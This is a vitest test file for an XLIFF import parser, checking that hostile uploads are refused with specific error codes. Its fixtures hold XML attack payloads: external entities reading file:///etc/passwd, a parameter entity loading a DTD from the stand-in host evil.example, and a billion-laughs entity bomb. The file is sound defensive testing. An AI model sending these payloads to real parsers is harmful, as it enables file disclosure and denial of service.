// Hostile uploads: each must be refused with its code before anything could be planned or written.
import { describe, expect, it } from "vitest";
import { parseXliff, planXliffImport, renderExport, XLIFF_MAX_BYTES } from "@/lib/export";
import { publishedDoc, thrown } from "./fixture";

const enc = (s: string) => new TextEncoder().encode(s);
const unit = `<unit id="seg-000"><segment><source>Các Đại biểu</source><target>&e;</target></segment></unit>`;
const doc = (prolog: string, body = unit) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n${prolog}<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.1" srcLang="vi" trgLang="de"><file id="f">${body}</file></xliff>`;

describe("XLIFF import refuses hostile input", () => {
  it("external entity (XXE) → XLIFF_DOCTYPE_FORBIDDEN, as text and as bytes", () => {
    const xxe = doc(`<!DOCTYPE xliff [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n`);
    expect(thrown(() => parseXliff(xxe)).code).toBe("XLIFF_DOCTYPE_FORBIDDEN");
    expect(thrown(() => parseXliff(enc(xxe))).code).toBe("XLIFF_DOCTYPE_FORBIDDEN");
    // Parameter entities and lower-case spelling too.
    expect(
      thrown(() => parseXliff(doc(`<!doctype x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>`))).code,
    ).toBe("XLIFF_DOCTYPE_FORBIDDEN");
  });

  it("billion laughs → XLIFF_DOCTYPE_FORBIDDEN, quickly", () => {
    const levels = ['<!ENTITY l0 "ha">'];
    for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`);
    const bomb = doc(`<!DOCTYPE xliff [${levels.join("")}<!ENTITY e "&l9;">]>\n`);
    const started = performance.now();
    expect(thrown(() => parseXliff(bomb)).code).toBe("XLIFF_DOCTYPE_FORBIDDEN");
    expect(performance.now() - started).toBeLessThan(50);
    // An ENTITY declaration smuggled without a DOCTYPE is refused the same way.
    expect(thrown(() => parseXliff(doc(`<!ENTITY e "x">`))).code).toBe("XLIFF_DOCTYPE_FORBIDDEN");
  });

  it("50 MB → XLIFF_TOO_LARGE from the byte count, without decoding", () => {
    const big = new Uint8Array(50 * 1024 * 1024); // zero-filled: not even valid XML, so only the size check can answer
    expect(thrown(() => parseXliff(big))).toEqual({ code: "XLIFF_TOO_LARGE", params: { limitMb: 10 } });
    const justOver = new Uint8Array(XLIFF_MAX_BYTES + 1);
    expect(thrown(() => parseXliff(justOver)).code).toBe("XLIFF_TOO_LARGE");
    // A string is measured in UTF-8 bytes: 4 M Vietnamese "ệ" (3 bytes each) is 12 MB although 4 M chars.
    expect(thrown(() => parseXliff(doc("", `<!--${"ệ".repeat(4 * 1024 * 1024)}-->`))).code).toBe("XLIFF_TOO_LARGE");
  });

  it("Latin-1 bytes declared as ISO-8859-1 → XLIFF_BAD_ENCODING", () => {
    const latin1 = doc("", `<unit id="u"><segment><source>Hà</source><target>Grüße</target></segment></unit>`).replace(
      "UTF-8",
      "ISO-8859-1",
    );
    const bytes = Uint8Array.from(latin1, (c) => c.charCodeAt(0) & 0xff);
    expect(thrown(() => parseXliff(bytes)).code).toBe("XLIFF_BAD_ENCODING");
    // Even when every byte is ASCII (so it decodes), the declaration itself is refused: we do not transcode.
    const ascii = doc("", `<unit id="u"><segment><source>Ha</source></segment></unit>`).replace("UTF-8", "ISO-8859-1");
    expect(thrown(() => parseXliff(enc(ascii)))).toEqual({
      code: "XLIFF_BAD_ENCODING",
      params: { encoding: "iso-8859-1" },
    });
    expect(thrown(() => parseXliff(ascii.replace("ISO-8859-1", "windows-1258"))).code).toBe("XLIFF_BAD_ENCODING");
  });

  it("invalid UTF-8 bytes → XLIFF_BAD_ENCODING (no silent U+FFFD)", () => {
    const good = enc(doc("", `<unit id="u"><segment><source>Hà Nội</source></segment></unit>`));
    const broken = new Uint8Array([...good.slice(0, 200), 0xc3, 0x28, 0xff, ...good.slice(200)]);
    expect(thrown(() => parseXliff(broken))).toEqual({ code: "XLIFF_BAD_ENCODING", params: { encoding: "utf-8" } });
    // UTF-8 bytes that claim to be UTF-16 were mislabelled.
    expect(thrown(() => parseXliff(enc(doc("", "").replace("UTF-8", "UTF-16")))).code).toBe("XLIFF_BAD_ENCODING");
  });

  it("XML that is not XLIFF → XLIFF_NOT_XLIFF with the root name", () => {
    expect(thrown(() => parseXliff(`<?xml version="1.0"?><tmx version="1.4"><header/><body/></tmx>`))).toEqual({
      code: "XLIFF_NOT_XLIFF",
      params: { root: "tmx" },
    });
    expect(thrown(() => parseXliff(`<xliff xmlns="http://example.com/not-oasis" version="2.1"/>`)).code).toBe(
      "XLIFF_NOT_XLIFF",
    );
    expect(thrown(() => parseXliff(renderExport(publishedDoc(), "html").body)).code).toBe("XLIFF_DOCTYPE_FORBIDDEN");
  });

  it("garbage and broken XML → XLIFF_MALFORMED with the line", () => {
    expect(thrown(() => parseXliff("PK\u0003\u0004 this is a zip, not XML")).code).toBe("XLIFF_MALFORMED");
    expect(thrown(() => parseXliff(enc('{"segments": []}'))).code).toBe("XLIFF_MALFORMED");
    expect(thrown(() => parseXliff(new Uint8Array(0))).code).toBe("XLIFF_MALFORMED");
    const truncated = renderExport(publishedDoc(), "xliff21").body.split("\n").slice(0, 12).join("\n");
    expect(thrown(() => parseXliff(truncated)).code).toBe("XLIFF_MALFORMED");
    const mismatched = `<?xml version="1.0"?>\n<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.1">\n<file id="f">\n<unit id="u"></segment>\n</file></xliff>`;
    expect(thrown(() => parseXliff(mismatched))).toEqual({ code: "XLIFF_MALFORMED", params: { line: 4 } });
  });

  it("absurd nesting → XLIFF_TOO_DEEP, no stack overflow", () => {
    const deep = doc(
      "",
      `<unit id="u"><segment><source>${'<pc id="1">'.repeat(5000)}x${"</pc>".repeat(5000)}</source></segment></unit>`,
    );
    expect(thrown(() => parseXliff(deep)).code).toBe("XLIFF_TOO_DEEP");
  });

  it("a refused file plans nothing: the error surfaces before planXliffImport can run", () => {
    const current = { lang: "de" as const, segments: publishedDoc().segments };
    let planned = false;
    expect(() => {
      const parsed = parseXliff(doc(`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`));
      planned = true;
      planXliffImport(parsed, current);
    }).toThrow("XLIFF_DOCTYPE_FORBIDDEN");
    expect(planned).toBe(false);
  });
});
